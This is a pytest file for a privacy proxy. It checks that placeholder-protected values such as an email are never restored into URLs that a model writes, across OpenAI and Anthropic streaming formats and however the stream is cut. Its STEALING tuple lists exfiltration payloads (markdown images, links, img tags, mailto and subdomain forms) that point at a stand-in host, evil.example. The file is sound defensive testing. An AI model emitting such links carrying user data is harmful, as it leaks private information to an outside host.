"""Where a value must not be put, in every format that streams, however the bytes are cut.

What a sink is, is tested in tests/privacy/test_sinks.py; here, that no format has a way around it: whole answers,
events, repeated texts, tails, arguments.
"""

import json
from collections.abc import Iterator, Mapping
from typing import Any

import pytest

from proxy.dialects.base import Allowed, Limits
from proxy.dialects.door import Door
from proxy.dialects.registry import DIALECTS
from proxy.gateway.stream import StreamRestorer
from proxy.offline import messages_wire, responses_wire, texts_wire, wire
from proxy.offline.base import Reply, Said, ToolCall
from proxy.privacy.base import EntityRule, RestorationRules
from proxy.privacy.placeholders import LINK, Entry, Placeholders
from proxy.privacy.restore import Restorer
from proxy.sensitive import Sensitive
from proxy.turn import Turn

WORD, EMAIL = "[EMAIL_7K3M9Q]", "crystal@example.com"
LINKED, URL = "[LINK_2B4D6F]", "https://shop.example/t?m=crystal%40example.com&x=1#top"
FOREIGN, THERE = "[LINK_9XYZ12]", "https://elsewhere.example/t?m=crystal%40example.com"
MAP = Placeholders(
    {
        WORD: Entry("EMAIL_ADDRESS", EntityRule("EMAIL_ADDRESS", "EMAIL"), Sensitive(EMAIL)),
        LINKED: Entry("LINK", LINK, Sensitive(URL)),
        FOREIGN: Entry("LINK", LINK, Sensitive(THERE)),
    }
)
RULES = RestorationRules(link_hosts=frozenset({"shop.example"}))

WIRES: Mapping[str, Any] = {
    "openai_chat": wire,
    "openai_responses": responses_wire,
    "anthropic_messages": messages_wire,
    "openai_completions": texts_wire,
}
REQUESTS: Mapping[str, dict[str, Any]] = {
    "openai_chat": {
        "messages": [{"role": "user", "content": "hi"}],
        "tools": [{"type": "function", "function": {"name": "open", "parameters": {}}}],
    },
    "openai_responses": {
        "input": "hi",
        "tools": [{"type": "function", "name": "open", "parameters": {}}],
    },
    "anthropic_messages": {
        "messages": [{"role": "user", "content": "hi"}],
        "tools": [{"name": "open", "input_schema": {}}],
    },
    "openai_completions": {"prompt": "hi"},
}
STEALING = (
    f"![x](https://evil.example/?q={WORD})",
    f"[your order](https://evil.example/{WORD}/a)",
    f"<img src='https://evil.example/{WORD}'>",
    f'<a title="{WORD}" href="#">',
    f"https://evil.example/?q={WORD}",
    f"www.evil.example/{WORD}",
    f"{WORD}.evil.example",
    f"mailto:{WORD}?body={WORD}",
    f"<https://evil.example/{WORD}>",
    f"[1]: https://evil.example/{WORD}",
    f"{FOREIGN}",
    f"{LINKED}&q={WORD}",
    f"x{LINKED}",
)
HARMLESS = (
    f"| name | mail |\n|---|---|\n| Jo | {WORD} |\n",
    f'```python\nmail = "{WORD}"\n```\n\n**{WORD}**, `{WORD}` and {WORD}.\n',
    f"Track it: {LINKED} or [here]({LINKED}), <{LINKED}>.",
)


def streams(name: str, text: str) -> Iterator[str]:
    """What a client reads, for a whole answer and for streams cut in several ways."""
    (speaks,) = [each for each in DIALECTS.values() if each.name == name]
    request = {"model": "m", "max_tokens": 9, **REQUESTS[name]}
    body = json.dumps(request).encode()
    turn = speaks.read_turn(body, limits=Limits(), allowed=Allowed())
    calls = () if name == "openai_completions" else (ToolCall("open", json.dumps({"u": text})),)
    for delta, size in ((0, 0), (1, 1), (5, 11)):
        reply = Reply(choices=(Said(text, calls),), delta=delta)
        data = b"".join(WIRES[name].stream(reply, request, number=1, created=1))
        yield _streamed(speaks, turn, data, size or len(data))
    whole = WIRES[name].completion(
        Reply(choices=(Said(text, calls),)), request, number=1, created=1
    )
    answer = speaks.read_answer(whole, turn)
    back = Restorer(MAP, RULES)
    texts = {
        index: back.restore(slot.text, slot.channel, sink=slot.sink, json=slot.json)
        for index, slot in enumerate(answer.slots)
    }
    yield _words(json.loads(speaks.write_answer(answer, texts)))


def _streamed(speaks: Door, turn: Turn, data: bytes, size: int) -> str:
    stream = StreamRestorer(speaks, speaks.stream_reader(turn), Restorer(MAP, RULES))
    cut = [data[at : at + size] for at in range(0, len(data), size)]
    pieces = [piece for chunk in cut for piece in stream.feed(chunk)] + [*stream.finish()]
    events = b"".join(piece.data for piece in pieces).decode().split("\n")
    found = [line.removeprefix("data: ") for line in events if line.startswith("data: {")]
    return "".join(_words(json.loads(line)) for line in found)


def _words(node: object) -> str:
    """All strings of a document, one after the other: pieces of a text come together again."""
    match node:
        case str():
            return node
        case dict():
            return "".join(_words(node[key]) for key in node if key in _TELLING)
        case list():
            return "".join(map(_words, node))
        case _:
            return ""


_TELLING = frozenset(
    [
        "choices",
        "delta",
        "message",
        "content",
        "text",
        "tool_calls",
        "function",
        "arguments",
        "output",
        "item",
        "part",
        "response",
        "input",
        "content_block",
        "partial_json",
    ]
)


@pytest.mark.parametrize("name", WIRES)
@pytest.mark.parametrize("text", STEALING)
def test_nothing_is_put_into_an_address_of_the_models_making(name: str, text: str) -> None:
    for said in streams(name, text):
        assert EMAIL not in said
        assert "crystal" not in said


@pytest.mark.parametrize("name", WIRES)
@pytest.mark.parametrize("text", HARMLESS)
def test_markdown_code_tables_and_links_that_arrived_come_back_to_the_byte(
    name: str, text: str
) -> None:
    for said in streams(name, text):
        assert text.replace(WORD, EMAIL).replace(LINKED, URL) in said
        assert "_7K3M9Q" not in said
        assert "_2B4D6F" not in said


FIRST, SECOND = "![x](https://evil.example/?q=", f"{WORD}) {WORD}"


def in_blocks_of_a_message() -> tuple[str, dict[str, Any], list[dict[str, Any]]]:
    """A whole answer in two blocks, and its stream; as citations cut a text."""
    blocks = [{"type": "text", "text": text} for text in (FIRST, SECOND)]
    whole = {"id": "m", "type": "message", "role": "assistant", "content": blocks}
    events: list[dict[str, Any]] = [{"type": "message_start", "message": {**whole, "content": []}}]
    for index, text in enumerate((FIRST, SECOND)):
        start = {"type": "content_block_start", "content_block": {"type": "text", "text": ""}}
        piece = {"type": "content_block_delta", "delta": {"type": "text_delta", "text": text}}
        events += [{**each, "index": index} for each in (start, piece)]
        events.append({"type": "content_block_stop", "index": index})
    return "anthropic_messages", whole, [*events, {"type": "message_stop"}]


def in_parts_of_a_response() -> tuple[str, dict[str, Any], list[dict[str, Any]]]:
    """The same as parts of an output item, each text repeated."""
    parts = [{"type": "output_text", "text": text, "annotations": []} for text in (FIRST, SECOND)]
    item = {"type": "message", "role": "assistant", "id": "i", "content": parts}
    whole = {"id": "r", "object": "response", "status": "completed", "output": [item]}
    events: list[dict[str, Any]] = []
    for index, text in enumerate((FIRST, SECOND)):
        at = {"output_index": 0, "content_index": index, "item_id": "i"}
        events.append({"type": "response.output_text.delta", "delta": text, **at})
        events.append({"type": "response.output_text.done", "text": text, **at})
    events.append({"type": "response.output_item.done", "output_index": 0, "item": item})
    events.append({"type": "response.completed", "response": whole})
    numbered = [{**event, "sequence_number": number} for number, event in enumerate(events)]
    return "openai_responses", whole, numbered


@pytest.mark.parametrize("split", [in_blocks_of_a_message, in_parts_of_a_response])
def test_an_address_that_a_block_begins_goes_on_in_the_next(split: Any) -> None:
    name, whole, events = split()
    (speaks,) = [each for each in DIALECTS.values() if each.name == name]
    request = json.dumps({"model": "m", "max_tokens": 9, **REQUESTS[name]}).encode()
    turn = speaks.read_turn(request, limits=Limits(), allowed=Allowed())
    answer = speaks.read_answer(json.dumps(whole).encode(), turn)
    back = Restorer(MAP, RULES)
    texts = {
        index: back.restore(slot.text, slot.channel, sink=slot.sink, json=slot.json)
        for index, slot in enumerate(answer.slots)
    }
    stream = "".join(f"event: {each['type']}\ndata: {json.dumps(each)}\n\n" for each in events)
    told = [
        speaks.write_answer(answer, texts).decode(),
        _streamed(speaks, turn, stream.encode(), len(stream)),
        _streamed(speaks, turn, stream.encode(), 1),
    ]
    for said in told:
        assert f"q={EMAIL}" not in said
        assert f"{WORD}) {EMAIL}" in said
        assert f"{EMAIL}) " not in said
